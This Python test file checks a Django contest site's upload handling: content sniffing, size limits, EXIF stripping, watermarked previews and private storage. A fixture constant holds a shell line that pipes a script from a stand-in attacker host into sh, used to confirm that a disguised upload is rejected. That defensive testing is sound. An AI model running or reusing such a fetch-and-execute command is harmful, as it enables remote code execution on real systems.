"""Uploaded files: checked by content and size, images cleaned and previewed."""

from __future__ import annotations

import io
import os
import tempfile
import tracemalloc
import zipfile
from typing import Any

import numpy as np
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from PIL import Image

from trefpunt.contests.models import Entry, EntryFile
from trefpunt.core.exceptions import ValidationFailed
from trefpunt.core.files import file_prepare, sniff

from .factories import enter, image_bytes, make_user, pdf_bytes, published, structured_image

pytestmark = pytest.mark.full_encoding  # the upload path as production runs it

SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def _private_files(settings: Any) -> list[str]:
    found = []
    for _root, _dirs, files in os.walk(settings.PRIVATE_MEDIA_ROOT):
        found += files
    return found


def test_sniff_recognises_the_accepted_types_by_their_first_bytes():
    image = structured_image(1, (64, 48))
    assert sniff(image_bytes(image, "PNG"))[1] == "image/png"  # type: ignore[index]
    assert sniff(image_bytes(image, "JPEG"))[1] == "image/jpeg"  # type: ignore[index]
    assert sniff(image_bytes(image, "WEBP"))[1] == "image/webp"  # type: ignore[index]
    assert sniff(pdf_bytes())[1] == "application/pdf"  # type: ignore[index]
    assert sniff(b"PK\x03\x04rest")[1] == "application/zip"  # type: ignore[index]
    assert sniff(SCRIPT) is None
    assert sniff(b"GIF89a") is None


def test_file_prepare_refuses_a_png_that_is_really_a_script():
    upload = SimpleUploadedFile("logo.png", SCRIPT, content_type="image/png")
    with pytest.raises(ValidationFailed) as exc:
        file_prepare(upload, field="files")
    assert "logo.png is not a PNG, JPEG, WebP, PDF or ZIP file" in exc.value.fields["files"][0]


def test_file_prepare_trusts_the_content_not_the_name():
    upload = SimpleUploadedFile(
        "photo.png", image_bytes(structured_image(2), "JPEG"), content_type="image/png"
    )
    derived = file_prepare(upload)
    assert derived.content_type == "image/jpeg"
    assert derived.extension == "jpg"


def test_file_prepare_refuses_a_200_mb_file_without_reading_it(settings):
    settings.MAX_UPLOAD_BYTES = 20 * 1024 * 1024
    with tempfile.NamedTemporaryFile(suffix=".png") as handle:
        handle.write(b"\x89PNG\r\n\x1a\n")
        handle.truncate(200 * 1024 * 1024)  # sparse: no 200 MB on disk or in memory
        handle.seek(0)
        upload = UploadedFile(file=handle, name="huge.png", size=200 * 1024 * 1024)
        tracemalloc.start()
        with pytest.raises(ValidationFailed) as exc:
            file_prepare(upload)
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert "huge.png is too large: at most 20 MB per file" in exc.value.fields["files"][0]
    assert peak < 1024 * 1024


def test_file_prepare_refuses_a_file_longer_than_it_claims(settings):
    settings.MAX_UPLOAD_BYTES = 1000
    data = image_bytes(structured_image(3, (300, 300)))
    upload = UploadedFile(file=io.BytesIO(data), name="liar.png", size=10)
    with pytest.raises(ValidationFailed):
        file_prepare(upload)


def test_file_prepare_strips_image_metadata():
    image = structured_image(4, (320, 240))
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # camera make
    exif[0x8825] = {1: "N", 2: (52.0, 22.0, 1.0)}  # GPS position
    data = image_bytes(image, "JPEG", exif=exif.tobytes())
    assert b"SpyCam" in data
    derived = file_prepare(SimpleUploadedFile("p.jpg", data, content_type="image/jpeg"))
    assert b"SpyCam" not in derived.content
    assert not Image.open(io.BytesIO(derived.content)).getexif()


def test_file_prepare_makes_clean_thumbnail_and_watermarked_previews():
    derived = file_prepare(
        SimpleUploadedFile("a.png", image_bytes(structured_image(5, (1600, 1200))))
    )
    thumb = Image.open(io.BytesIO(derived.thumb))
    public = Image.open(io.BytesIO(derived.thumb_public))
    preview = Image.open(io.BytesIO(derived.preview))
    clean_preview = Image.open(io.BytesIO(derived.preview_clean))
    assert max(thumb.size) == 480
    assert max(public.size) == 480
    assert max(preview.size) == 1200
    assert clean_preview.size == preview.size
    assert len(derived.preview_clean) < len(derived.content)
    assert (derived.width, derived.height) == (1600, 1200)
    # The watermark changes the picture visibly.
    clean = np.asarray(thumb.convert("L"), dtype=float)
    marked = np.asarray(public.convert("L"), dtype=float)
    assert np.abs(clean - marked).mean() > 3
    clean_large = np.asarray(clean_preview.convert("L"), dtype=float)
    marked_large = np.asarray(preview.convert("L"), dtype=float)
    assert np.abs(clean_large - marked_large).mean() > 3


def test_file_prepare_accepts_pdf_and_zip_and_refuses_a_broken_zip():
    pdf = file_prepare(SimpleUploadedFile("brief.pdf", pdf_bytes()))
    assert pdf.kind == "pdf"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("logo.svg", "<svg/>")
    assert file_prepare(SimpleUploadedFile("src.zip", out.getvalue())).kind == "zip"
    with pytest.raises(ValidationFailed):
        file_prepare(SimpleUploadedFile("bad.zip", b"PK\x03\x04" + b"\0" * 50))


def test_file_prepare_refuses_an_empty_file():
    with pytest.raises(ValidationFailed) as exc:
        file_prepare(SimpleUploadedFile("e.png", b""))
    assert "is empty" in exc.value.fields["files"][0]


@pytest.mark.django_db
def test_entry_submit_with_a_disguised_script_saves_nothing(settings):
    contest = published(make_user())
    before = _private_files(settings)
    with pytest.raises(ValidationFailed) as exc:
        enter(contest, files=[SimpleUploadedFile("logo.png", SCRIPT)])
    assert "files" in exc.value.fields
    assert not Entry.objects.exists()
    assert not EntryFile.objects.exists()
    assert _private_files(settings) == before


@pytest.mark.django_db
def test_entry_submit_stores_files_on_private_storage_with_unguessable_names(settings):
    contest = published(make_user())
    entry = enter(contest)
    stored = EntryFile.objects.get(version__entry=entry)
    path = stored.file.path
    assert path.startswith(str(settings.PRIVATE_MEDIA_ROOT))
    assert not path.startswith(str(settings.MEDIA_ROOT))
    assert len(str(stored.file.name).split("/")[-1].split(".")[0]) == 32
    assert stored.thumb and stored.thumb_public and stored.preview and stored.preview_clean
    assert stored.phash is not None and stored.dhash is not None
    assert stored.file.storage.exists(str(stored.file.name))
